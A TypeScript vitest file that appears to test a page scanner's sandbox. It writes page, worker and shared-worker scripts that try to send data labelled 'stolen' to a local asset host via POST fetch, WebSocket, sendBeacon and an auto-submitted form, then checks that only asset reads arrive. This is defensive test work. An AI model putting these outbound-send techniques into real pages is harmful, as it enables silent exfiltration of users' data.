import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHome, leftovers } from './cli.ts';
import { makeCertificate } from './support/certificate.ts';
import { scan, temporaryFolder } from './support/scan.ts';
import { listenSecurely, type SecureServer } from './support/secure-server.ts';

const home = createHome();
afterAll(() => home.dispose());

describe('a page that tries to send something to a host opened for assets', () => {
  const certificate = makeCertificate(['assets.localhost']);
  const asked: string[] = [];
  const build = temporaryFolder();
  let assets: SecureServer;

  /** Each way of a page's scripts to send something, and one to read: what arrives shows that the script came so far. */
  const script = (who: string, base: string) => `
    const send = (path) => fetch('${base}/${who}/' + path, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'stolen' }).catch(() => {});
    const read = (path) => fetch('${base}/${who}/' + path, { mode: 'no-cors' }).catch(() => {});
    send('first').then(() => read('read'));
    fetch('${base}/${who}/preflight', { method: 'PUT', headers: { 'x-stolen': '1' } }).catch(() => {});
    new WebSocket('${base.replace('http', 'ws')}/${who}/socket');`;

  beforeAll(async () => {
    assets = await listenSecurely(certificate, (request, response) => {
      asked.push(`${request.method} ${request.url}`);
      response
        .writeHead(200, { 'content-type': 'text/css', 'access-control-allow-origin': '*' })
        .end('p { color: #000 }');
    });
    const base = `https://assets.localhost:${assets.port}`;
    mkdirSync(build.path, { recursive: true });
    writeFileSync(join(build.path, 'worker.js'), script('worker', base));
    writeFileSync(join(build.path, 'shared.js'), script('shared', base));
    writeFileSync(
      join(build.path, 'index.html'),
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Start</title><link rel="stylesheet" href="${base}/style.css">
      <script>${script('page', base)}
      new Worker('worker.js');
      new SharedWorker('shared.js');
      navigator.sendBeacon('${base}/beacon', 'stolen');
      addEventListener('pagehide', () => { navigator.sendBeacon('${base}/last-beacon', 'stolen'); send('last'); });
      </script></head><body><main><h1>Start</h1>
      <iframe name="inner" title="An answer"></iframe><form action="${base}/form" method="post" target="inner"><input name="a" value="stolen" aria-label="A"></form>
      <script>document.forms[0].submit();</script></main></body></html>`,
    );
  });
  afterAll(async () => {
    await assets.close();
    build.dispose();
  });

  it('E11 reads from it, in workers too, and sends nothing, whichever way it tries', async () => {
    const host = `assets.localhost:${assets.port}`;
    const { code, report, stderr } = await scan(
      [build.path, '--allow-assets', 'assets.localhost', '--allow-host', host, '-m', 'axe,lighthouse'],
      { home: home.path, env: { STAGEFLOW_TEST_TRUST: certificate.trust } },
    );
    expect(code, stderr.slice(-2000)).toBe(0);
    expect(asked).toEqual(
      expect.arrayContaining(['/style.css', '/page/read', '/worker/read', '/shared/read'].map((path) => `GET ${path}`)),
    );
    expect(asked.filter((line) => !/^GET \/(style\.css|(page|worker|shared)\/read)$/.test(line))).toEqual([]);
    expect(report.coverage.totals.cellsFailed).toBe(0);
    expect(leftovers(home.path)).toEqual([]);
  });
});
